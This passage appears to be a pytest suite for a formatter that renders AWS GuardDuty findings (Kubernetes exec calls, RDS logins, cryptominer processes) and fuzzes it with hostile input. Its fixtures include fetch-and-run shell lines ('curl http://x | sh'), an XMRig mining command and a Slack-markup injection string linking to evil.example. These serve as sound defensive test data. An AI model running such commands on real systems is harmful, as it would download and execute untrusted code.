    assert call["User agent"].startswith("aws-cli/2.15.0")
    assert call["Remote IP"] == "198.51.100.23"
    assert call["Affected resources"] == (
        "AWS::SecretsManager::Secret: arn:aws:secretsmanager:eu-west-1:1:secret:db"
    )


def test_aws_api_call_from_another_account_or_domain() -> None:
    detail = finding(
        action={
            "actionType": "AWS_API_CALL",
            "awsApiCallAction": {
                "api": "AssumeRole",
                "serviceName": "sts.amazonaws.com",
                "callerType": "AWS Service",
                "remoteAccountDetails": {
                    "accountId": "999988887777",
                    "affiliated": False,
                    "awsServiceName": "lambda.amazonaws.com",
                },
                "domainDetails": {"domain": "lambda.amazonaws.com"},
            },
        }
    )
    call = section(actor_sections(detail), "AWS API call")
    assert call["Remote account"] == "999988887777"
    assert call["Calling service"] == "lambda.amazonaws.com"
    assert call["Domain"] == "lambda.amazonaws.com"


def test_kubernetes_api_call_and_role_binding() -> None:
    detail = finding(
        {"resourceType": "EKSCluster", "kubernetesDetails": KUBERNETES},
        action={
            "actionType": "KUBERNETES_API_CALL",
            "kubernetesApiCallAction": {
                "requestUri": "/api/v1/namespaces/default/pods/crypto-7d9f8b6c5-x2x9k/exec",
                "verb": "create",
                "resource": "pods",
                "subresource": "exec",
                "namespace": "default",
                "resourceName": "crypto-7d9f8b6c5-x2x9k",
                "sourceIPs": ["198.51.100.23", "203.0.113.99"],
                "userAgent": "kubectl/v1.29.0 (linux/amd64)",
                "remoteIpDetails": REMOTE_IP,
                "statusCode": 101,
                "parameters": '{"command":["sh","-c","curl http://x | sh"]}',
            },
            "kubernetesRoleBindingDetails": {
                "kind": "ClusterRoleBinding",
                "name": "ci-runner-admin",
                "uid": "8e8e8e8e-0000-1111-2222-333333333333",
                "roleRefName": "cluster-admin",
                "roleRefKind": "ClusterRole",
            },
        },
    )
    sections = actor_sections(detail)
    assert titles(sections)[:3] == [
        "Kubernetes API call",
        "Kubernetes role binding",
        "Kubernetes user",
    ]
    call = section(sections, "Kubernetes API call")
    assert call["Verb"] == "create"
    assert call["Request URI"].endswith("/exec")
    assert call["Status code"] == "101"
    assert call["Source IPs"] == "203.0.113.99"  # the remote IP is shown once
    assert call["Resource"] == "pods/exec"
    assert call["Namespace"] == "default"
    assert call["User agent"] == "kubectl/v1.29.0 (linux/amd64)"
    binding = section(sections, "Kubernetes role binding")
    assert binding["Binding"] == "ci-runner-admin"
    assert binding["Role"] == "ClusterRole cluster-admin"


def test_kubernetes_permission_checked_and_role() -> None:
    detail = finding(
        action={
            "actionType": "KUBERNETES_PERMISSION_CHECKED",
            "kubernetesPermissionCheckedDetails": {
                "verb": "create",
                "resource": "clusterrolebindings",
                "namespace": "kube-system",
                "allowed": True,
            },
            "kubernetesRoleDetails": {"kind": "ClusterRole", "name": "escalate", "uid": "u-1"},
        }
    )
    sections = actor_sections(detail)
    check = section(sections, "Kubernetes permission check")
    assert check == {
        "Verb": "create",
        "Resource": "clusterrolebindings",
        "Namespace": "kube-system",
        "Allowed": "yes",
    }
    role = section(sections, "Kubernetes role")
    assert role == {"Role": "escalate", "Kind": "ClusterRole", "UID": "u-1"}


def test_kubernetes_role_details_action_type() -> None:
    detail = finding(
        action={
            "actionType": "KUBERNETES_ROLE_DETAILS",
            "kubernetesRoleDetails": {"kind": "Role", "name": "pod-reader"},
        }
    )
    assert titles(actor_sections(detail))[0] == "Kubernetes role"


@pytest.mark.parametrize("key", ["loginAttributes", "LoginAttributes"])
def test_rds_login_attempts(key: str) -> None:
    detail = finding(
        action={
            "actionType": "RDS_LOGIN_ATTEMPT",
            "rdsLoginAttemptAction": {
                "remoteIpDetails": REMOTE_IP,
                key: [
                    {
                        "user": "postgres",
                        "application": "psql",
                        "failedLoginAttempts": 37,
                        "successfulLoginAttempts": 1,
                    },
                    {
                        "user": "admin",
                        "application": "psql",
                        "failedLoginAttempts": "5",
                        "successfulLoginAttempts": 0,
                    },
                ],
            },
        }
    )
    login = section(actor_sections(detail), "Database login attempts")
    assert login["Remote IP"] == "198.51.100.23"
    assert login["Users"] == "postgres, admin"
    assert login["Applications"] == "psql"
    assert login["Successful logins"] == "1"
    assert login["Failed logins"] == "42"


def test_unknown_action_type_is_generic() -> None:
    detail = finding(
        action={
            "actionType": "TELEPATHY",
            "telepathyAction": {"thoughtCount": 3, "target": {"brainId": "b-1"}},
        }
    )
    generic = section(actor_sections(detail), "Action details")
    assert generic["Telepathy Action Thought Count"] == "3"
    assert generic["Target Brain Id"] == "b-1"


def test_action_type_with_empty_action_object() -> None:
    detail = finding(action={"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {}})
    assert section(actor_sections(detail), "Action") == {"Action type": "NETWORK_CONNECTION"}


def test_runtime_process_and_context() -> None:
    detail = finding(
        INSTANCE,
        runtimeDetails={
            "process": {
                "name": "xmrig",
                "executablePath": "/tmp/.cache/xmrig",
                "executableSha256": "a" * 64,
                "namespacePid": 17,
                "pwd": "/tmp/.cache",
                "pid": 31337,
                "startTime": "2024-06-01T12:00:00Z",
                "uuid": "p-1",
                "user": "root",
                "userId": 0,
                "euid": 0,
                "lineage": [
                    {"name": "bash", "pid": 100},
                    {"name": "sshd", "pid": 50},
                    {"name": "systemd", "pid": 1},
                ],
            },
            "context": {
                "toolName": "XMRig",
                "toolCategory": "Cryptominer",
                "commandLineExample": "xmrig -o pool.minexmr.com:443 -u 4A...",
                "memoryRegions": ["heap", "stack"],
                "modifyingProcess": {"name": "curl", "executablePath": "/usr/bin/curl"},
                "ianaProtocolNumber": 6,
                "newFutureField": "future value",
            },
        },
        evidence={
            "threatIntelligenceDetails": [
                {"threatListName": "ProofPoint", "threatNames": ["CryptoMining"]},
                {"threatListName": "Amazon", "threatNames": ["CryptoMining", "Coinhive"]},
            ]
        },
    )
    sections = actor_sections(detail)
    assert titles(sections)[:3] == ["Process", "Runtime context", "Threat intelligence"]
    process = section(sections, "Process")
    assert process["Process"] == "xmrig"
    assert process["Executable"] == "/tmp/.cache/xmrig"
    assert process["SHA-256"] == "a" * 64
    assert process["PID"] == "31337"
    assert process["User"] == "root"
    assert process["User ID"] == "0"
    assert "Effective user ID" not in process  # same as the user id
    assert process["Parent processes"] == "bash ← sshd ← systemd"
    context = section(sections, "Runtime context")
    assert context["Tool"] == "XMRig"
    assert context["Tool category"] == "Cryptominer"
    assert context["Command line example"].startswith("xmrig -o")
    assert context["Memory regions"] == "heap, stack"
    assert context["Modifying process"] == "curl (/usr/bin/curl)"
    assert context["IP protocol number"] == "6"
    assert context["New Future Field"] == "future value"
    intel = section(sections, "Threat intelligence")
    assert intel["Threat lists"] == "ProofPoint, Amazon"
    assert intel["Threat names"] == "CryptoMining, Coinhive"


def test_runtime_command_line_if_present() -> None:
    detail = finding(runtimeDetails={"process": {"name": "sh", "commandLine": "sh -c 'curl x|sh'"}})
    process = section(actor_sections(detail), "Process")
    assert process["Command line"] == "sh -c 'curl x|sh'"


def test_anomaly_and_additional_info() -> None:
    detail = finding(
        detection={
            "anomaly": {
                "profiles": {},
                "unusual": {
                    "behavior": {
                        "AKIAEXAMPLE": {
                            "API": {
                                "profileType": "FREQUENCY",
                                "profileSubtype": "UNSEEN",
                                "observations": {"text": ["DeleteTrail", "StopLogging"]},
                            },
                            "userAgent <x>": {
                                "profileSubtype": "RARE",
                                "observations": {"text": ["curl/8.0"]},
                            },
                        }
                    }
                },
            }
        },
        additionalInfo={
            "value": json.dumps({"sample": False, "unusualProtocol": "UDP", "inBytes": 1200}),
            "type": "default",
        },
    )
    sections = actor_sections(detail)
    unusual = section(sections, "Unusual behaviour")
    assert unusual["API"] == "DeleteTrail, StopLogging (unseen)"
    assert unusual["User Agent X"] == "curl/8.0 (rare)"
    info = section(sections, "Additional information")
    assert info == {"Unusual Protocol": "UDP", "In Bytes": "1200"}


def test_sample_additional_info_adds_nothing() -> None:
    detail = finding(additionalInfo={"value": '{"sample":true}', "type": "default"})
    assert actor_sections(detail) == []


# --- odd and hostile input -----------------------------------------------------------------

ODD_VALUES: list[Any] = [
    None,
    [],
    {},
    "",
    0,
    -1,
    3.5,
    True,
    "text",
    [None],
    [{}],
    [[]],
    {"x": None},
]


@pytest.mark.parametrize("odd", ODD_VALUES, ids=repr)
def test_odd_values_anywhere_never_raise(odd: Any) -> None:
    skeleton = model_finding()
    for path in leaf_and_object_paths(skeleton):
        detail = replace_at(skeleton, path, odd)
        check_invariants(resource_sections(detail))
        check_invariants(actor_sections(detail))
        assert isinstance(resource_summary(detail), str)


@pytest.mark.parametrize("odd", [*ODD_VALUES, "nonsense", 42])
def test_odd_top_level_never_raises(odd: Any) -> None:
    for detail in (odd, {"resource": odd, "service": odd}, {"service": {"action": odd}}):
        check_invariants(resource_sections(detail))
        check_invariants(actor_sections(detail))
        assert isinstance(resource_summary(detail), str)


def test_hundreds_of_tags_are_bounded() -> None:
    tags = [{"key": f"k{i}", "value": f"v{i}"} for i in range(300)]
    detail = finding(
        {"resourceType": "Instance", "instanceDetails": {"instanceId": "i-1", "tags": tags}}
    )
    ec2 = section(resource_sections(detail), "EC2 instance")
    assert ec2["Tags"] == "k0=v0, k1=v1, k2=v2, k3=v3, k4=v4 (+295 more)"


def test_tags_as_an_object_are_read_too() -> None:
    detail = finding(
        {"resourceType": "Lambda", "lambdaDetails": {"functionName": "f", "tags": {"env": "prod"}}}
    )
    assert section(resource_sections(detail), "Lambda function")["Tags"] == "env=prod"


def test_object_as_list_and_list_as_object() -> None:
    detail = finding(
        {
            "resourceType": "Instance",
            "instanceDetails": [
                {"instanceId": "i-0listed", "networkInterfaces": {"publicIp": "1.2.3.4"}}
            ],
        }
    )
    ec2 = section(resource_sections(detail), "EC2 instance")
    assert ec2["Instance"] == "i-0listed"
    assert ec2["Public IPs"] == "1.2.3.4"


def test_enormous_values_are_capped_and_huge_ints_do_not_raise() -> None:
    detail = finding(
        {
            "resourceType": "Instance",
            "instanceDetails": {"instanceId": "i-" + "x" * 1_000_000, "instanceType": 10**5000},
        }
    )
    ec2 = section(resource_sections(detail), "EC2 instance")
    assert len(ec2["Instance"]) <= 3000
    assert len(resource_summary(detail)) <= 200


def test_deep_nesting_in_unknown_keys_is_bounded() -> None:
    deep: dict[str, Any] = {"leaf": "bottom"}
    for _ in range(500):
        deep = {"level": deep}
    detail = finding({"resourceType": "Thing", "thingDetails": deep}, action={"x": deep})
    check_invariants(resource_sections(detail))
    check_invariants(actor_sections(detail))


def test_self_referencing_object_is_bounded() -> None:
    loop: dict[str, Any] = {"name": "loop"}
    loop["self"] = loop
    detail = finding({"resourceType": "Thing", "thingDetails": loop})
    check_invariants(resource_sections(detail))


def test_deeply_nested_additional_info_json_does_not_raise() -> None:
    detail = finding(additionalInfo={"value": "[" * 100_000 + "]" * 100_000})
    check_invariants(actor_sections(detail))


def test_labels_never_carry_finding_text_outside_the_generic_fallback() -> None:
    hostile = "<!channel> <https://evil.example|click> *x* `y` & @here"
    skeleton = model_finding()
    for path in leaf_and_object_paths(skeleton):
        detail = replace_at(skeleton, path, hostile)
        for sect in [*resource_sections(detail), *actor_sections(detail)]:
            assert not set("<>&@*`|") & set(sect.title)
            for item in sect.items:
                assert not set("<>&@*`|") & set(item.label)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_hypothesis_values_at_model_paths_never_raise(data: st.DataObject) -> None:
    skeleton = model_finding()
    paths = leaf_and_object_paths(skeleton)
    detail: Any = skeleton
    for _ in range(data.draw(st.integers(1, 6))):
        path = data.draw(st.sampled_from(paths))
        detail = replace_at(detail, path, data.draw(json_values))
    check_invariants(resource_sections(detail))
    check_invariants(actor_sections(detail))
    assert isinstance(resource_summary(detail), str)


@settings(max_examples=200, deadline=None)
@given(detail=json_values)
def test_hypothesis_arbitrary_json_never_raises(detail: Any) -> None:
    check_invariants(resource_sections(detail))
    check_invariants(actor_sections(detail))
    assert isinstance(resource_summary(detail), str)


# --- the whole botocore model --------------------------------------------------------------

_MODEL = botocore.loaders.Loader().load_service_model("guardduty", "service-2")
_SHAPES: dict[str, Any] = _MODEL["shapes"]
_OVERRIDES: dict[str, Any] = {
    "instanceId": "i-0model0000000001",
    "ipAddressV4": "192.0.2.200",
    "resourceType": "Instance",
    "actionType": "NETWORK_CONNECTION",
    "asn": "64501",
    "launchTime": "2024-01-01T00:00:00Z",
}


def _fill(shape_name: str, member: str, depth: int) -> Any:
    """A plausible value of a botocore shape, every member filled, to a bounded depth."""
    if member in _OVERRIDES:
        return _OVERRIDES[member]
    shape = _SHAPES[shape_name]
    kind = shape["type"]
    if kind == "structure":
        if depth > 8:
            return {}
        return {
            spec.get("locationName", name): _fill(
                spec["shape"], spec.get("locationName", name), depth + 1
            )
            for name, spec in shape["members"].items()
        }
    if kind == "list":
        element = shape["member"]["shape"]
        return [_fill(element, member, depth + 1) for _ in range(2)] if depth <= 8 else []
    if kind == "map":
        value = shape["value"]["shape"]
        return {f"{member}Key": _fill(value, member, depth + 1)} if depth <= 8 else {}
    if "enum" in shape:
        return shape["enum"][0]
    return {
        "string": f"{member}-value",
        "integer": 7,
        "long": 7,
        "double": 5.5,
        "float": 5.5,
        "boolean": True,
        "timestamp": "2024-05-01T12:00:00Z",
    }.get(kind, f"{member}-value")


def model_finding() -> dict[str, Any]:
    return _fill("Finding", "Finding", 0)  # type: ignore[no-any-return]


def leaf_and_object_paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path in a JSON document (objects, lists and leaves alike), first list element only."""
    paths = [path] if path else []
    if isinstance(value, dict):
        for key, child in value.items():
            paths += leaf_and_object_paths(child, (*path, key))
    elif isinstance(value, list) and value:
        paths += leaf_and_object_paths(value[0], (*path, 0))
    return paths


def replace_at(document: Any, path: tuple[Any, ...], new: Any) -> Any:
    """A copy of ``document`` with the value at ``path`` replaced (paths that no longer exist
    after earlier replacements are ignored)."""
    if not path:
        return new
    head, rest = path[0], path[1:]
    if isinstance(document, dict) and head in document:
        return {**document, head: replace_at(document[head], rest, new)}
    if isinstance(document, list) and isinstance(head, int) and head < len(document):
        copy = list(document)
        copy[head] = replace_at(copy[head], rest, new)
        return copy
    return document


def test_model_fully_populated_finding() -> None:
    detail = model_finding()
    resources = resource_sections(detail)
    actors = actor_sections(detail)
    check_invariants(resources)
    check_invariants(actors)
    assert resources[0].title == "EC2 instance"
    assert "i-0model0000000001" in all_values(resources)
    assert actors[0].title == "Network connection"  # the model's direction is not INBOUND
    assert "192.0.2.200" in all_values(actors)
    assert resource_summary(detail).startswith("Instance i-0model0000000001")


ACTION_TYPES = {
    "NETWORK_CONNECTION": "Network connection",
    "PORT_PROBE": "Port probe",
    "DNS_REQUEST": "DNS request",
    "AWS_API_CALL": "AWS API call",
    "KUBERNETES_API_CALL": "Kubernetes API call",
    "KUBERNETES_PERMISSION_CHECKED": "Kubernetes permission check",
    "KUBERNETES_ROLE_BINDING_DETAILS": "Kubernetes role binding",
    "KUBERNETES_ROLE_DETAILS": "Kubernetes role",
    "RDS_LOGIN_ATTEMPT": "Database login attempts",
}


@pytest.mark.parametrize(("action_type", "title"), ACTION_TYPES.items())
def test_model_finding_puts_the_named_action_first(action_type: str, title: str) -> None:
    detail = model_finding()
    detail["service"]["action"]["actionType"] = action_type
    first = actor_sections(detail)[0]
    assert first.title.startswith(title)


def _members(shape: str) -> list[str]:
    return [spec.get("locationName", name) for name, spec in _SHAPES[shape]["members"].items()]


@pytest.mark.parametrize("member", [m for m in _members("Action") if m != "actionType"])
def test_every_model_action_member_has_a_builder(member: str) -> None:
    """A new action object in botocore's model fails here rather than going generic unnoticed."""
    action = {member: model_finding()["service"]["action"][member]}
    sections = actor_sections(finding(action=action))
    assert sections and "Action details" not in titles(sections)


@pytest.mark.parametrize("member", [m for m in _members("Resource") if m != "resourceType"])
def test_every_model_resource_member_has_a_builder(member: str) -> None:
    resource = {member: model_finding()["resource"][member]}
    sections = [*resource_sections(finding(resource)), *actor_sections(finding(resource))]
    assert sections and "Resource details" not in titles(sections)


@pytest.mark.parametrize(
    ("resource_type", "title"),
    [
        ("Instance", "EC2 instance"),
        ("AccessKey", "IAM access key"),
        ("S3Bucket", "S3 bucket"),
        ("S3Object", "S3 bucket"),
        ("EKSCluster", "EKS cluster"),
        ("ECSCluster", "ECS cluster"),
        ("Container", "Container"),
        ("RDSDBInstance", "RDS DB instance"),
        ("RDSLimitlessDB", "RDS Limitless database"),
        ("Lambda", "Lambda function"),
        ("RecoveryPoint", "Backup recovery point"),
        ("BedrockGuardrail", "Bedrock guardrail"),
    ],
)
def test_model_finding_puts_the_typed_resource_first(resource_type: str, title: str) -> None:
    detail = model_finding()
    detail["resource"]["resourceType"] = resource_type
    assert resource_sections(detail)[0].title == title
    assert resource_summary(detail).startswith(resource_type + " ")
